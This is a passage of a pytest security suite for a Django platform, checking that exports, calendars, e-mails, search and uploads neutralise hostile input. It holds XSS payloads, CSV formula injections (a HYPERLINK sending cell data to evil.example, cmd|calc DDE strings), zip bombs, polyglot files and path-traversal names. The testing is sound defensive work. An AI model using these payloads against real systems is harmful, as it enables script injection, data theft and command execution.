        for row in rows:
            for column, cell in row.items():
                # A cell starting like a formula is shown as text: an apostrophe goes first.
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        formula = next(row for row in rows if row["title"].endswith(BY_NAME["csv-formula"].text))
        assert formula["title"] == "'" + BY_NAME["csv-formula"].text and formula["summary"] == "'" + BY_NAME["csv-formula"].text

    with subtests.test(export="json"):
        response = client.get(reverse("practices:export_json"))
        assert response["Content-Type"].startswith("application/json") and response["X-Content-Type-Options"] == "nosniff"
        records = json.loads(b"".join(response.streaming_content))["results"]
        assert {record["id"]: record["title"] for record in records} == {pk: practice.title for pk, practice in published.items()}

    with subtests.test(export="whole dataset"):
        manifest = dataset.generate(site_url="http://testserver")
        with default_storage.open(manifest["files"]["csv"]["path"], "rb") as handle, zipfile.ZipFile(handle) as archive:
            tables = {name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig")))) for name in archive.namelist() if name.endswith(".csv")}
        assert len(tables["practices.csv"]) == len(published)
        for name, rows in tables.items():
            for row in rows:
                for column, cell in row.items():
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column, cell)
        with default_storage.open(manifest["files"]["json"]["path"], "rb") as handle:
            records = json.loads(gzip.decompress(handle.read()))["practices"]
        assert {record["id"]: record["title"] for record in records} == {pk: practice.title for pk, practice in published.items()}
        with default_storage.open(manifest["files"]["xlsx"]["path"], "rb") as handle:
            workbook = openpyxl.load_workbook(io.BytesIO(handle.read()))
        titles = {row[2] for row in workbook["practices"].iter_rows(min_row=2, values_only=True)}
        # As text cells, as written (a character XML cannot hold marked, as in the exports' workbook).
        assert titles == {opendata.workbook_cells([practice.title])[0] for practice in published.values()}

    with subtests.test(api="list and detail"):
        response = client.get(reverse("api:practice_list") + "?page_size=100")
        assert response["Content-Type"].startswith("application/json") and response["X-Content-Type-Options"] == "nosniff"
        records = response.json()["results"]
        assert {record["id"]: record["summary"] for record in records} == {pk: practice.summary for pk, practice in published.items()}
        for payload in PAYLOADS:
            record = client.get(reverse("api:practice_detail", kwargs={"pk": world.practices[payload.name].pk})).json()
            assert [record[name] for name in PRACTICE_PLAIN_FIELDS] == [as_stored(payload.text)] * len(PRACTICE_PLAIN_FIELDS)
            # A document's title is kept as typed.
            assert as_stored(record["documents"][0]["title"]) == as_stored(payload.text)


# The components of a calendar, and the properties of a meeting's event: a payload cannot add one (an attendee, an alarm...).
CALENDAR_COMPONENTS = {"VCALENDAR", "VEVENT", "VTIMEZONE", "STANDARD", "DAYLIGHT"}
EVENT_PROPERTIES = {"UID", "DTSTAMP", "LAST-MODIFIED", "DTSTART", "DTEND", "SUMMARY", "LOCATION", "DESCRIPTION", "URL", "CATEGORIES"}


def calendars(world, subtests):
    client = Client()
    paths = {"upcoming meetings": reverse("meetings:meeting_calendar_feed")}
    for payload in PAYLOADS:
        paths[f"meeting ({payload.name})"] = reverse("meetings:meeting_calendar", kwargs={"slug": world.meetings[payload.name].slug})
    by_title = {as_stored(meeting.title): meeting for meeting in Meeting.objects.all()}
    for label, path in paths.items():
        with subtests.test(calendar=label):
            response = client.get(path)
            assert response.status_code == 200
            calendar = Calendar.from_ical(response.content)
            events = calendar.walk("VEVENT")
            assert events and {component.name for component in calendar.walk()} <= CALENDAR_COMPONENTS
            for event in events:
                assert set(event) <= EVENT_PROPERTIES, set(event) - EVENT_PROPERTIES
                meeting = by_title[str(event["SUMMARY"])]
                assert str(event["LOCATION"]) == as_stored(meeting.place)
                assert as_stored(meeting.description) in str(event["DESCRIPTION"])


def emails(world, subtests):
    expected_subjects = {
        "New practice to review: {}", "Published: {}", "Changes requested: {}",
        "New uptake story to review: {}", "Uptake story published: {}", "Changes requested to the uptake story: {}",
    }
    for payload in PAYLOADS:
        with subtests.test(emails_of=payload.name):
            subjects = {message.subject for message in world.emails}
            # Every e-mail about the payload's practice or story was sent, with its title on the subject's one line.
            title = one_line(payload.text)
            assert {subject for subject in expected_subjects if "[SME Platform] " + subject.format(title) not in subjects} == set()
            # In the text, the title is as typed.
            submitted = [message.body for message in world.emails if message.subject == f"[SME Platform] New practice to review: {title}"]
            assert all(f"“{as_stored(payload.text)}”" in body for body in submitted)
    with subtests.test(emails="plain text, with single-line headers"):
        for message in {(message.subject, message.body): message for message in world.emails}.values():
            assert message.content_subtype == "plain"
            for content, mimetype in getattr(message, "alternatives", []):
                assert mimetype != "text/html" or inspect_html(content)[0] == []
            assert "\n" not in message.subject and "\r" not in message.subject
            parsed = message.message()
            assert parsed.get_all("Bcc") is None and parsed.get_all("ATTENDEE") is None
            assert parsed["To"] == ", ".join(message.to)
            # Plain text is not HTML: what was typed reaches the reader as typed, not as &lt;entities&gt;.
            assert "&lt;" not in message.body and "&#x27;" not in message.body and "&quot;" not in message.body
    for rejection in ("Not accepted: ", "Uptake story not accepted: "):
        with subtests.test(emails="the reason reaches the team as typed", subject=rejection):
            [body] = {message.body for message in world.emails if message.subject.startswith(f"[SME Platform] {rejection}")}
            assert [payload.name for payload in PAYLOADS if as_stored(payload.text) not in as_stored(body)] == []


# --- Addresses, search words, formulas ---

# Typed where a web address is expected: refused, or kept as a harmless http(s) link.
URL_PAYLOADS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/' onmouseover='alert(1)",
    "//evil.example/x",
    "https://example.org/?q=<svg/onload=alert(1)>",
]


def assert_inert(response, *texts):
    assert response.status_code == 200, response.status_code
    problems, shown = inspect_html(response.content.decode())
    assert problems == []
    assert not_shown(shown, texts) == []


@pytest.mark.parametrize("address", URL_PAYLOADS)
def test_an_address_typed_into_a_web_address_field_is_refused_or_harmless(
    client, address, country_a, focal_a, contributor_a, moderator
):
    # The country's website.
    client.force_login(focal_a)
    response = client.post(reverse("countries:profile_edit", kwargs={"iso2": "KE"}), {"website": address})
    country_a.refresh_from_db()
    if response.status_code == 200:
        assert "website" in response.context["form"].errors and country_a.website == ""
    else:
        assert response.status_code == 302 and country_a.website.startswith(("http://", "https://"))
    assert_inert(client.get(reverse("countries:country_detail", kwargs={"iso2": "KE"})))

    # A practice's links.
    client.force_login(contributor_a)
    response = client.post(url("practices:practice_create", iso2="KE"), {**practice_form("Links"), "links": address, "save": ""})
    if response.status_code == 200:
        assert "links" in response.context["form"].errors and not Practice.objects.exists()
    else:
        practice = Practice.objects.get()
        assert all(link.startswith(("http://", "https://")) for link in practice.revisions.get().content["links"])
        assert_inert(client.get(reverse("practices:workspace_detail", kwargs={"iso2": "KE", "pk": practice.pk})))

    # A deliverable event's link, shown on the public Call to Action page.
    call = CallToAction.objects.create(slug="call-to-action", title="Call to Action", text="The text.", adopted_on="2025-07-10")
    mandate = Mandate.objects.create(call=call, kind=Mandate.Kind.EXPERTISE, title="Expertise")
    deliverable = Deliverable.objects.create(mandate=mandate, title="Guide")
    client.force_login(moderator)
    response = client.post(
        url("meetings:cta_deliverable_event", pk=deliverable.pk), {"happened_on": "2025-09-01", "title": "Step", "link": address}
    )
    if response.status_code == 200:
        assert not deliverable.events.exists()
    else:
        assert deliverable.events.get().link.startswith(("http://", "https://"))
    assert_inert(client.get(reverse("meetings:call_to_action")))
    assert_inert(client.get(reverse("meetings:cta_deliverable", kwargs={"pk": deliverable.pk})))


REFLECTED = [*PAYLOADS, Payload("nul-byte", "\x00<script>alert(1)</script>")]


@pytest.mark.parametrize("payload", REFLECTED, ids=[payload.name for payload in REFLECTED])
def test_words_in_a_query_come_back_as_text(client, payload, country_a, contributor_a, moderator):
    _practice, revision = practice_services.create_practice(country_a, by=contributor_a, content=practice_form("Script alert onerror"))
    practice_services.submit_revision(revision, by=contributor_a)
    practice_services.publish_revision(revision, by=moderator)
    words = payload.text
    query = {name: words for name in ("q", "sort", "page", "country", "region", "theme", "year_from", "level")}
    # The search box keeps the words typed; the other filters say what they could not use.
    typed = [] if "\x00" in words else [words]
    assert_inert(client.get(reverse("practices:browse"), query), *typed)
    assert_inert(client.get(reverse("practices:compare"), {"p": [words, revision.practice_id]}))
    feed = client.get(reverse("practices:feed_search"), {"q": words})
    assert feed.status_code == 200
    ElementTree.fromstring(feed.content)
    for path in (reverse("api:practice_list"), reverse("practices:export_json")):
        response = client.get(path, {**query, "surprise": words})
        assert response.status_code in (200, 400)
        json.loads(b"".join(response.streaming_content) if response.streaming else response.content)
    assert client.get(reverse("practices:export_csv"), query).status_code == 200
    client.force_login(moderator)
    assert_inert(client.get(reverse("practices:review_queue"), {"region": words, "country": words, "theme": words}))
    CallToAction.objects.create(slug="call-to-action", title="Call to Action", text="The text.", adopted_on="2025-07-10")
    assert_inert(client.get(reverse("meetings:cta_record_endorsement"), {"country": words}))
    assert_inert(client.get(url("practices:version_compare", iso2="KE", pk=revision.practice_id), {"from": words, "to": words}))


def test_the_csv_export_shows_every_formula_as_text(client, country_a, contributor_a, moderator):
    formulas = {
        "title": "=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")",
        "summary": "+SUM(1+1)*cmd|' /C calc'!A0",
        "description": "-2+3+cmd|' /C calc'!A0",
        "results": "@SUM(1+1)*cmd|' /C calc'!A0",
        "responsible_institution": "=1+1",
    }
    _practice, revision = practice_services.create_practice(country_a, by=contributor_a, content={**practice_form("x"), **formulas})
    practice_services.submit_revision(revision, by=contributor_a)
    practice_services.publish_revision(revision, by=moderator)
    response = client.get(reverse("practices:export_csv"))
    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    assert {column: row[column] for column in formulas} == {column: "'" + formula for column, formula in formulas.items()}


# --- The upload corpus ---


@dataclass(frozen=True)
class UploadPoint:
    """Where a file is uploaded: the form's fields and file field, what it stores, and its size limit."""

    name: str
    uploader: str  # contributor_a or moderator
    url: Callable  # setup -> path
    fields: dict
    file_field: str
    model: type  # what it stores
    size_limit: Callable  # () -> bytes, read from the settings or the code


DOCUMENT_POINTS = [
    UploadPoint(
        "practice document", "contributor_a", lambda setup: url("practices:attachment_add", iso2="KE", pk=setup["practice"].pk),
        {"title": "Annual report"}, "file", Attachment, lambda: settings.SME_MAX_ATTACHMENT_SIZE,
    ),
    UploadPoint(
        "meeting document", "moderator", lambda setup: url("meetings:staff_document_add", pk=setup["meeting"].pk),
        {"document-kind": "agenda", "document-title": "Agenda"}, "document-file", MeetingDocument,
        lambda: settings.SME_MAX_ATTACHMENT_SIZE,
    ),
]
IMPORT_POINT = UploadPoint(
    "spreadsheet import", "moderator", lambda setup: url("practices:import_start"), {}, "file", ImportBatch,
    lambda: imports.MAX_FILE_SIZE,
)
UPLOAD_POINTS = [*DOCUMENT_POINTS, IMPORT_POINT]

EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    + b"This program cannot be run in DOS mode.\r\n" + b"PE\x00\x00" + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


@dataclass(frozen=True)
class HostileFile:
    label: str
    name: str
    data: Callable  # upload point -> bytes
    # What the person is told, next to the field: for documents, and for the spreadsheet import.
    document_message: str
    import_message: str


NOT_A_DOCUMENT = "Only PDF and Office documents"
NOT_A_SPREADSHEET = "Upload the template filled in"
NOT_THE_TEMPLATE = "not in the template"
HOSTILE_FILES = [
    HostileFile("Windows executable renamed .pdf", "report.pdf", lambda point: EXE, NOT_A_DOCUMENT, NOT_A_SPREADSHEET),
    HostileFile("Linux executable renamed .pdf", "report.pdf", lambda point: ELF, NOT_A_DOCUMENT, NOT_A_SPREADSHEET),
    # The import reads any text as CSV: it finds no template's columns in a web page.
    HostileFile("HTML disguised as an image", "photo.png", lambda point: HTML, NOT_A_DOCUMENT, NOT_THE_TEMPLATE),
    HostileFile("HTML disguised as a PDF", "report.pdf", lambda point: HTML, NOT_A_DOCUMENT, NOT_THE_TEMPLATE),
    HostileFile(
        "PDF that is also a web page", "report.pdf", lambda point: PDF.replace(b"%%EOF", b"%" + HTML + b"%%EOF"),
        "contains web page code", NOT_THE_TEMPLATE,
    ),
    HostileFile(
        "PDF that is also a ZIP archive", "report.pdf", lambda point: PDF + zip_of({"payload.html": HTML, "run.js": "alert(1)"}),
        "holds a ZIP archive", NOT_A_SPREADSHEET,
    ),
    HostileFile("image that is also a ZIP archive (GIFAR)", "report.docx", lambda point: GIF + DOCX, NOT_A_DOCUMENT, NOT_A_SPREADSHEET),
    HostileFile("encrypted PDF", "report.pdf", lambda point: encrypted_pdf(), "encrypted", NOT_THE_TEMPLATE),
    HostileFile("zip bomb of 200 MB", "report.xlsx", lambda point: zip_bomb(200, "xl/worksheets/sheet1.xml"), "expands", "expands"),
    HostileFile("zip bomb of 150 MB, under the absolute cap", "report.docx", lambda point: zip_bomb(150), "expands", "expands"),
    HostileFile(
        "one byte over the size limit", "report.pdf",
        lambda point: (PDF if point is not IMPORT_POINT else b"country,title\n").ljust(point.size_limit() + 1, b"%"),
        "the limit is", "the limit is",
    ),
    HostileFile("empty file", "report.pdf", lambda point: b"", "The submitted file is empty.", "The submitted file is empty."),
    HostileFile("path-traversal name", "../../../etc/cron.d/x.pdf", lambda point: EXE, NOT_A_DOCUMENT, NOT_A_SPREADSHEET),
    HostileFile("NUL in the name", "report\x00.html.pdf", lambda point: HTML, NOT_A_DOCUMENT, NOT_THE_TEMPLATE),
]


@pytest.fixture
def upload_setup(client, country_a, contributor_a, moderator, settings, tmp_path):
    """A draft practice of Kenya, a meeting, who uploads, and an empty MEDIA_ROOT."""
    settings.MEDIA_ROOT = tmp_path / "media"
    _practice, revision = practice_services.create_practice(country_a, by=contributor_a, content={"title": "Export desk"})
    meeting = meeting_services.create_meeting(
        by=moderator,
        data={"title": "Technical meeting", "kind": "technical", "format": "hybrid", "time_zone": "UTC",
              "starts_at": timezone.now() + timedelta(days=30), "ends_at": timezone.now() + timedelta(days=30, hours=8)},
    )
    return {"practice": revision.practice, "meeting": meeting, "contributor_a": contributor_a, "moderator": moderator, "media": settings.MEDIA_ROOT}


def post_file(client, setup, point, name, data):
    client.force_login(setup[point.uploader])
    body, content_type = multipart(point.fields, {point.file_field: (name, data)})
    return client.generic("POST", point.url(setup), body, content_type=content_type)


def files_under(folder):
    return [path for path in folder.rglob("*") if path.is_file()] if folder.exists() else []


class ZipReads:
    """Counts the bytes the app expands from any ZIP archive."""

    def __init__(self, monkeypatch):
        self.expanded = 0
        for method in ("read", "read1"):
            original = getattr(zipfile.ZipExtFile, method)

            def counting(part, *args, original=original, **kwargs):
                data = original(part, *args, **kwargs)
                self.expanded += len(data)
                return data

            monkeypatch.setattr(zipfile.ZipExtFile, method, counting)


@pytest.mark.parametrize("hostile", HOSTILE_FILES, ids=[hostile.label for hostile in HOSTILE_FILES])
@pytest.mark.parametrize("point", UPLOAD_POINTS, ids=[point.name for point in UPLOAD_POINTS])
def test_a_hostile_file_is_refused_next_to_its_field_and_nothing_is_kept(client, upload_setup, point, hostile, monkeypatch):
    before = point.model.objects.count()
    zip_reads = ZipReads(monkeypatch)
    response = post_file(client, upload_setup, point, hostile.name, hostile.data(point))

    assert response.status_code == 200, response.status_code
    field_id = f"id_{point.file_field}"
    page = response.content.decode()
    errors = re.search(rf'<ul class="errorlist" id="{field_id}_error">(.*?)</ul>', page, re.S)
    assert errors, f"no error next to {field_id}"
    message = hostile.import_message if point is IMPORT_POINT else hostile.document_message
    assert message in errors.group(1).replace("&#x27;", "'"), errors.group(1)
    assert inspect_html(page)[0] == []
    assert point.model.objects.count() == before and files_under(upload_setup["media"]) == []
    # A zip bomb is judged by the sizes it declares: the app never expands it.
    assert zip_reads.expanded < 1 << 20


@pytest.mark.parametrize(
    "name, data, kind",
    [
        ("report.pdf", PDF, "pdf"),
        ("notes.docx", DOCX, "docx"),
        ("../../../etc/cron.d/report.pdf", PDF, "pdf"),
        ("re\x00port.pdf", PDF, "pdf"),
    ],
    ids=["PDF", "DOCX", "path-traversal name", "NUL in the name"],
)
@pytest.mark.parametrize("point", DOCUMENT_POINTS, ids=[point.name for point in DOCUMENT_POINTS])
def test_a_real_document_is_kept_inside_the_media_folder_under_a_name_of_ours(client, upload_setup, point, name, data, kind):
    response = post_file(client, upload_setup, point, name, data)

    assert response.status_code == 302, _errors_of(response)
    document = point.model.objects.get()
    assert document.extension == kind and document.size == len(data)
    # Whatever the name sent, the browser's folders and control characters are gone, and the file has a name of ours.
    assert "/" not in document.original_name and "\\" not in document.original_name and "\x00" not in document.original_name
    [stored] = files_under(upload_setup["media"])
    assert stored.resolve().is_relative_to(upload_setup["media"].resolve()) and "report" not in stored.name and "notes" not in stored.name
    assert stored.read_bytes() == data


def test_a_png_is_not_a_document(client, upload_setup):
    # Documents are PDF or Office files: a picture, harmless as it is, is refused with the same clear message.
    response = post_file(client, upload_setup, DOCUMENT_POINTS[0], "chart.png", PNG)
    assert response.status_code == 200 and NOT_A_DOCUMENT in response.content.decode()
    assert not Attachment.objects.exists()


def xlsx_of(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


@pytest.mark.parametrize(
    "name, data",
    [
        ("practices.csv", b"country,title\nKE,Export desk\n"),
        ("practices.xlsx", xlsx_of([["country", "title"], ["KE", "Export desk"]])),
        ("../../practices.csv", b"country,title\nKE,Export desk\n"),
    ],
    ids=["CSV", "XLSX", "path-traversal name"],
)
def test_a_real_spreadsheet_is_read(client, upload_setup, focal_a, name, data):
    response = post_file(client, upload_setup, IMPORT_POINT, name, data)
    assert response.status_code == 302, _errors_of(response)
    batch = ImportBatch.objects.get()
    assert batch.file_name == name.rsplit("/", 1)[-1] and [row["title"] for row in batch.rows] == ["Export desk"]
